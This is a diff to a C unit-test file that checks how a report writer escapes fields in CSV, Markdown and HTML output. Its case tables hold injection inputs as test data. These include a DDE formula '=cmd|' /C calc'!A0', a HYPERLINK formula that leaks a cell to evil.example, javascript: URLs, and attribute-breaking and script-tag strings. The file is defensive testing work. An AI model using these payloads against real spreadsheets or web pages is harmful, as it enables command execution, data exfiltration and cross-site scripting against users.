@@ -254,7 +254,11 @@ test_report_runs_nothing (Fixture       *f,
 }
 
 /* Exact output, one case per escaping rule: a one-statement library whose
- * fields are the defaults below except the one a case sets. */
+ * fields are the defaults below except the one a case sets, written in the
+ * case's format by the real writer. A CSV case gives the field as written
+ * and the whole file must be the header and the statement's record; an
+ * HTML or Markdown case gives a fragment the report must hold exactly
+ * once. Adding a rule is adding a row. */
 
 typedef enum
 {
@@ -269,11 +273,88 @@ typedef enum
 
 typedef struct
 {
-  const char *path;
-  Field       field;
-  const char *value;
-  const char *expected;   /* CSV: the field as written; HTML, Markdown: a fragment */
+  const char     *name;
+  TpReportFormat  format;
+  Field           field;
+  const char     *value;
+  const char     *expected;
 } EscapeCase;
+
+#define CSV TP_REPORT_FORMAT_CSV
+#define MD TP_REPORT_FORMAT_MARKDOWN
+#define HTML TP_REPORT_FORMAT_HTML
+
+static const EscapeCase escape_cases[] = {
+  /* CSV: OWASP's first characters, each alone. */
+  { "equals", CSV, FIELD_TEXT, "=1+2", "'=1+2" },
+  { "plus", CSV, FIELD_TEXT, "+1+2", "'+1+2" },
+  { "minus", CSV, FIELD_TEXT, "-1+2", "'-1+2" },
+  { "at", CSV, FIELD_TEXT, "@SUM(1+2)", "'@SUM(1+2)" },
+  { "tab", CSV, FIELD_TEXT, "\t=1+2", "'\t=1+2" },
+  { "carriage-return", CSV, FIELD_TEXT, "\r=1+2", "\"'\r=1+2\"" },
+  /* Text that looks like a number is still text: no exception. */
+  { "negative-number", CSV, FIELD_TEXT, "-5", "'-5" },
+  /* Quoting and the prefix together: the quote goes inside the field. */
+  { "quoted-formula", CSV, FIELD_TEXT, "=HYPERLINK(\"https://evil.example/?\"&A1,\"Xem\")",
+    "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Xem\"\")\"" },
+  /* Only the first character counts. */
+  { "inner-signs", CSV, FIELD_TEXT, "Giá giảm 5% = -3 @ 2", "Giá giảm 5% = -3 @ 2" },
+  { "leading-space", CSV, FIELD_TEXT, " =1+2", " =1+2" },
+  /* Every text column, not only the statement. */
+  { "speaker", CSV, FIELD_SPEAKER, "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0" },
+  { "outlet", CSV, FIELD_OUTLET, "@outlet", "'@outlet" },
+  { "title", CSV, FIELD_TITLE, "+Tiêu đề", "'+Tiêu đề" },
+  { "source", CSV, FIELD_URL, "=1+2", "'=1+2" },
+  { "tag", CSV, FIELD_TAG, "-tag", "'-tag" },
+
+  /* Markdown: a pipe would start or split a GFM table cell. */
+  { "pipe-text", MD, FIELD_TEXT, "a | b", "\n- “a \\| b”  \n" },
+  { "pipe-table", MD, FIELD_TEXT, "| x | y |\n|---|---|",
+    "\n- “\\| x \\| y \\| \\|---\\|---\\|”  \n" },
+  { "pipe-speaker", MD, FIELD_SPEAKER, "Peskov | Lavrov",
+    "\n  **Peskov \\| Lavrov** \\(Dmitry Peskov\\) · " },
+  { "pipe-citation", MD, FIELD_OUTLET, "A | B",
+    "  \n  Source: A \\| B, *Tiêu đề*, 2025-07-04, <https://vtc.vn/a.html>  \n" },
+  { "pipe-tag", MD, FIELD_TAG, "x|y", "\n  - Tags: x\\|y\n" },
+  /* The other rules, one each. */
+  { "html", MD, FIELD_TEXT, "<b>x</b>", "\n- “\\<b\\>x\\</b\\>”  \n" },
+  { "link", MD, FIELD_TEXT, "[x](javascript:alert(1))",
+    "\n- “\\[x\\]\\(javascript:alert\\(1\\)\\)”  \n" },
+  { "entity", MD, FIELD_TEXT, "&amp;", "\n- “\\&amp;”  \n" },
+  { "emphasis", MD, FIELD_TEXT, "*a* _b_ `c` ~d~", "\n- “\\*a\\* \\_b\\_ \\`c\\` \\~d\\~”  \n" },
+  { "line-break", MD, FIELD_TEXT, "a\n# b\r\n- c", "\n- “a \\# b  - c”  \n" },
+  /* List markers are escaped where the text starts, whatever precedes it. */
+  { "list-marker", MD, FIELD_TEXT, "1. x", "\n- “1\\. x”  \n" },
+  { "not-a-link", MD, FIELD_URL, "javascript:alert(1)",
+    ", 2025-07-04, javascript:alert\\(1\\)  \n" },
+
+  /* HTML */
+  { "less-greater", HTML, FIELD_TEXT, "<b>x</b>",
+    "<blockquote lang=\"vi\">&lt;b&gt;x&lt;/b&gt;</blockquote>" },
+  { "ampersand", HTML, FIELD_TEXT, "&amp; &#60;",
+    "<blockquote lang=\"vi\">&amp;amp; &amp;#60;</blockquote>" },
+  { "double-quote", HTML, FIELD_SPEAKER, "a\" onclick=\"x",
+    "<p class=\"speaker\">a&quot; onclick=&quot;x <span class=\"actor\">" },
+  { "single-quote", HTML, FIELD_OUTLET, "a' onclick='x",
+    "<span class=\"outlet\">a&apos; onclick=&apos;x</span>" },
+  { "title", HTML, FIELD_TITLE, "</cite><script>x</script>",
+    "<cite>&lt;/cite&gt;&lt;script&gt;x&lt;/script&gt;</cite>" },
+  { "tag", HTML, FIELD_TAG, "<i>t</i>", ">&lt;i&gt;t&lt;/i&gt;</li>" },
+  /* Only http and https become links; anything else is shown as text. */
+  { "javascript-url", HTML, FIELD_URL, "javascript:alert(1)",
+    ", <span class=\"source\">javascript:alert(1)</span></p>" },
+  /* A web address is linked, and escaped inside the attribute too. */
+  { "url-quote", HTML, FIELD_URL, "https://vtc.vn/a?x=\"><b>",
+    " href=\"https://vtc.vn/a?x=&quot;&gt;&lt;b&gt;\">"
+    "https://vtc.vn/a?x=&quot;&gt;&lt;b&gt;</a></p>" },
+  /* A language that is not a language tag is left out, not escaped. */
+  { "language", HTML, FIELD_LANGUAGE, "vi\" onmouseover=\"x",
+    "<blockquote>Chúng tôi muốn hòa bình</blockquote>" },
+};
+
+#undef CSV
+#undef MD
+#undef HTML
 
 typedef struct
 {
@@ -285,6 +366,27 @@ typedef struct
   const char *tag;
   const char *language;
 } Record;
+
+static const Record default_record = {
+  "Chúng tôi muốn hòa bình", "ông Peskov", "VTC News", "Tiêu đề", "https://vtc.vn/a.html",
+  "kiểm chứng", "vi",
+};
+
+static const char csv_header[] =
+  "id,side,actor,speaker,kind,text,topics,tags,notes,said_on,outlet,article_title,source,"
+  "published,review_status\r\n";
+
+static const char *
+format_name (TpReportFormat format)
+{
+  switch (format)
+    {
+    case TP_REPORT_FORMAT_CSV: return "csv";
+    case TP_REPORT_FORMAT_MARKDOWN: return "markdown";
+    case TP_REPORT_FORMAT_HTML: return "html";
+    default: g_assert_not_reached ();
+    }
+}
 
 static void
 record_set (Record     *r,
@@ -303,11 +405,6 @@ record_set (Record     *r,
     default: g_assert_not_reached ();
     }
 }
-
-static const Record default_record = {
-  "Chúng tôi muốn hòa bình", "ông Peskov", "VTC News", "Tiêu đề", "https://vtc.vn/a.html",
-  "kiểm chứng", "vi",
-};
 
 /* Writes a @format report of a library holding @r and returns its text. */
 static char *
@@ -347,137 +444,50 @@ write_record (const Record   *r,
   return text;
 }
 
-static const char csv_header[] =
-  "id,side,actor,speaker,kind,text,topics,tags,notes,said_on,outlet,article_title,source,"
-  "published,review_status\r\n";
-
-/* The statement's record, with @expected in place of @field's default. */
+/* The whole CSV file for a library holding @r. */
 static char *
-csv_expected_record (Field       field,
-                     const char *expected)
+csv_expected_file (const Record *r)
 {
-  Record r = default_record;
-
-  record_set (&r, field, expected);
-  return g_strdup_printf ("1,moscow,Dmitry Peskov,%s,direct,%s,negotiations,%s,,2025-07-04,%s,%s,%s,"
-                          "2025-07-04,auto\r\n",
-                          r.speaker, r.text, r.tag, r.outlet, r.title, r.url);
+  return g_strdup_printf ("%s1,moscow,Dmitry Peskov,%s,direct,%s,negotiations,%s,,2025-07-04,%s,%s,"
+                          "%s,2025-07-04,auto\r\n",
+                          csv_header, r->speaker, r->text, r->tag, r->outlet, r->title, r->url);
 }
 
-static const EscapeCase csv_cases[] = {
-  /* OWASP's first characters, each alone. */
-  { "/report/escape/csv/equals", FIELD_TEXT, "=1+2", "'=1+2" },
-  { "/report/escape/csv/plus", FIELD_TEXT, "+1+2", "'+1+2" },
-  { "/report/escape/csv/minus", FIELD_TEXT, "-1+2", "'-1+2" },
-  { "/report/escape/csv/at", FIELD_TEXT, "@SUM(1+2)", "'@SUM(1+2)" },
-  { "/report/escape/csv/tab", FIELD_TEXT, "\t=1+2", "'\t=1+2" },
-  { "/report/escape/csv/carriage-return", FIELD_TEXT, "\r=1+2", "\"'\r=1+2\"" },
-  /* Text that looks like a number is still text: no exception. */
-  { "/report/escape/csv/negative-number", FIELD_TEXT, "-5", "'-5" },
-  /* Quoting and the prefix together: the quote goes inside the field. */
-  { "/report/escape/csv/quoted-formula", FIELD_TEXT,
-    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Xem\")",
-    "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Xem\"\")\"" },
-  /* Only the first character counts. */
-  { "/report/escape/csv/inner-signs", FIELD_TEXT, "Giá giảm 5% = -3 @ 2", "Giá giảm 5% = -3 @ 2" },
-  { "/report/escape/csv/leading-space", FIELD_TEXT, " =1+2", " =1+2" },
-  /* Every text column, not only the statement. */
-  { "/report/escape/csv/speaker", FIELD_SPEAKER, "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0" },
-  { "/report/escape/csv/outlet", FIELD_OUTLET, "@outlet", "'@outlet" },
-  { "/report/escape/csv/title", FIELD_TITLE, "+Tiêu đề", "'+Tiêu đề" },
-  { "/report/escape/csv/source", FIELD_URL, "=1+2", "'=1+2" },
-  { "/report/escape/csv/tag", FIELD_TAG, "-tag", "'-tag" },
-};
+static guint
+count_occurrences (const char *haystack,
+                   const char *needle)
+{
+  guint n = 0;
+
+  g_assert (*needle != '\0');
+  for (const char *p = haystack; (p = strstr (p, needle)) != NULL; p++)
+    n++;
+  return n;
+}
 
 static void
-test_csv_escape (gconstpointer data)
+test_escape (gconstpointer data)
 {
   const EscapeCase *c = data;
   Record r = default_record;
-  g_autofree char *csv = NULL;
-  g_autofree char *record = csv_expected_record (c->field, c->expected);
-  g_autofree char *expected = g_strconcat (csv_header, record, NULL);
+  g_autofree char *report = NULL;
 
   record_set (&r, c->field, c->value);
-  csv = write_record (&r, TP_REPORT_FORMAT_CSV);
-  g_assert_cmpstr (csv, ==, expected);
-}
+  report = write_record (&r, c->format);
 
-static const EscapeCase markdown_cases[] = {
-  /* A pipe would start or split a GFM table cell. */
-  { "/report/escape/markdown/pipe-text", FIELD_TEXT, "a | b", "\n- “a \\| b”  \n" },
-  { "/report/escape/markdown/pipe-table", FIELD_TEXT, "| x | y |\n|---|---|",
-    "\n- “\\| x \\| y \\| \\|---\\|---\\|”  \n" },
-  { "/report/escape/markdown/pipe-speaker", FIELD_SPEAKER, "Peskov | Lavrov",
-    "\n  **Peskov \\| Lavrov** \\(Dmitry Peskov\\) · " },
-  { "/report/escape/markdown/pipe-citation", FIELD_OUTLET, "A | B",
-    "  \n  Source: A \\| B, *Tiêu đề*, 2025-07-04, <https://vtc.vn/a.html>  \n" },
-  { "/report/escape/markdown/pipe-tag", FIELD_TAG, "x|y", "\n  - Tags: x\\|y\n" },
-  /* The other rules, one each. */
-  { "/report/escape/markdown/html", FIELD_TEXT, "<b>x</b>", "\n- “\\<b\\>x\\</b\\>”  \n" },
-  { "/report/escape/markdown/link", FIELD_TEXT, "[x](javascript:alert(1))",
-    "\n- “\\[x\\]\\(javascript:alert\\(1\\)\\)”  \n" },
-  { "/report/escape/markdown/entity", FIELD_TEXT, "&amp;", "\n- “\\&amp;”  \n" },
-  { "/report/escape/markdown/emphasis", FIELD_TEXT, "*a* _b_ `c` ~d~",
-    "\n- “\\*a\\* \\_b\\_ \\`c\\` \\~d\\~”  \n" },
-  { "/report/escape/markdown/line-break", FIELD_TEXT, "a\n# b\r\n- c", "\n- “a \\# b  - c”  \n" },
-  /* List markers are escaped where the text starts, whatever precedes it. */
-  { "/report/escape/markdown/list-marker", FIELD_TEXT, "1. x", "\n- “1\\. x”  \n" },
-  { "/report/escape/markdown/not-a-link", FIELD_URL, "javascript:alert(1)",
-    ", 2025-07-04, javascript:alert\\(1\\)  \n" },
-};
-
-static void
-test_markdown_escape (gconstpointer data)
-{
-  const EscapeCase *c = data;
-  Record r = default_record;
-  g_autofree char *md = NULL;
-
-  record_set (&r, c->field, c->value);
-  md = write_record (&r, TP_REPORT_FORMAT_MARKDOWN);
-  if (strstr (md, c->expected) == NULL)
+  if (c->format == TP_REPORT_FORMAT_CSV)
     {
-      g_test_message ("“%s” not in the Markdown report:\n%s", c->expected, md);
-      g_test_fail ();
+      Record written = default_record;
+      g_autofree char *expected = NULL;
+
+      record_set (&written, c->field, c->expected);
+      expected = csv_expected_file (&written);
+      g_assert_cmpstr (report, ==, expected);
     }
-}
-
-static const EscapeCase html_cases[] = {
-  { "/report/escape/html/less-greater", FIELD_TEXT, "<b>x</b>",
-    "<blockquote lang=\"vi\">&lt;b&gt;x&lt;/b&gt;</blockquote>" },
-  { "/report/escape/html/ampersand", FIELD_TEXT, "&amp; &#60;",
-    "<blockquote lang=\"vi\">&amp;amp; &amp;#60;</blockquote>" },
-  { "/report/escape/html/double-quote", FIELD_SPEAKER, "a\" onclick=\"x",
-    "<p class=\"speaker\">a&quot; onclick=&quot;x <span class=\"actor\">" },
-  { "/report/escape/html/single-quote", FIELD_OUTLET, "a' onclick='x",
-    "<span class=\"outlet\">a&apos; onclick=&apos;x</span>" },
-  { "/report/escape/html/title", FIELD_TITLE, "</cite><script>x</script>",
-    "<cite>&lt;/cite&gt;&lt;script&gt;x&lt;/script&gt;</cite>" },
-  { "/report/escape/html/tag", FIELD_TAG, "<i>t</i>", ">&lt;i&gt;t&lt;/i&gt;</li>" },
-  /* Only http and https become links; anything else is shown as text. */
-  { "/report/escape/html/javascript-url", FIELD_URL, "javascript:alert(1)",
-    ", <span class=\"source\">javascript:alert(1)</span></p>" },
-  /* A web address is linked, and escaped inside the attribute too. */
-  { "/report/escape/html/url-quote", FIELD_URL, "https://vtc.vn/a?x=\"><b>",
-    " href=\"https://vtc.vn/a?x=&quot;&gt;&lt;b&gt;\">https://vtc.vn/a?x=&quot;&gt;&lt;b&gt;</a></p>" },
-  /* A language that is not a language tag is left out, not escaped. */
-  { "/report/escape/html/language", FIELD_LANGUAGE, "vi\" onmouseover=\"x",
-    "<blockquote>Chúng tôi muốn hòa bình</blockquote>" },
-};
-
-static void
-test_html_escape (gconstpointer data)
-{
-  const EscapeCase *c = data;
-  Record r = default_record;
-  g_autofree char *html = NULL;
-
-  record_set (&r, c->field, c->value);
-  html = write_record (&r, TP_REPORT_FORMAT_HTML);
-  if (strstr (html, c->expected) == NULL)
+  else if (count_occurrences (report, c->expected) != 1)
     {
-      g_test_message ("“%s” not in the HTML report:\n%s", c->expected, html);
+      g_test_message ("“%s” is %u times in the %s report, not once:\n%s", c->expected,
+                      count_occurrences (report, c->expected), format_name (c->format), report);
       g_test_fail ();
     }
 }
@@ -494,12 +504,14 @@ main (int   argc,
               test_control_page_runs, fixture_teardown);
   g_test_add ("/report/injection/report-runs-nothing", Fixture, NULL, fixture_setup,
               test_report_runs_nothing, fixture_teardown);
-  for (guint i = 0; i < G_N_ELEMENTS (csv_cases); i++)
-    g_test_add_data_func (csv_cases[i].path, &csv_cases[i], test_csv_escape);
-  for (guint i = 0; i < G_N_ELEMENTS (markdown_cases); i++)
-    g_test_add_data_func (markdown_cases[i].path, &markdown_cases[i], test_markdown_escape);
-  for (guint i = 0; i < G_N_ELEMENTS (html_cases); i++)
-    g_test_add_data_func (html_cases[i].path, &html_cases[i], test_html_escape);
+  for (guint i = 0; i < G_N_ELEMENTS (escape_cases); i++)
+    {
+      const EscapeCase *c = &escape_cases[i];
+      g_autofree char *path = g_strdup_printf ("/report/escape/%s/%s", format_name (c->format),
+                                               c->name);
+
+      g_test_add_data_func (path, c, test_escape);
+    }
 
   return g_test_run ();
 }
